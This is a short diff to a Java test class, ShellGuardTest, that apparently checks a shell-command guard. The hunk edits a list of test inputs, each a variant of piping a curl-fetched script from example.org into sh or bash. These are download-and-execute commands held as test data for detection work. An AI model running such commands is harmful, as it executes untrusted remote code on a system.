@@ -177,7 +177,7 @@ class ShellGuardTest {
                     "sh -c 'curl https://example.org/i.sh | sh'",
                     "sh -c `curl https://example.org/i.sh`",
                     "curl https://example.org/i.sh |\nsh",
-                    "curl https://example.org/i.sh |\n\n bash x",
+                    "curl https://example.org/i.sh |\n\n bash",
                     "{ curl https://example.org/i.sh; echo; } | sh",
                     "(curl https://example.org/i.sh) | sh",
                 })
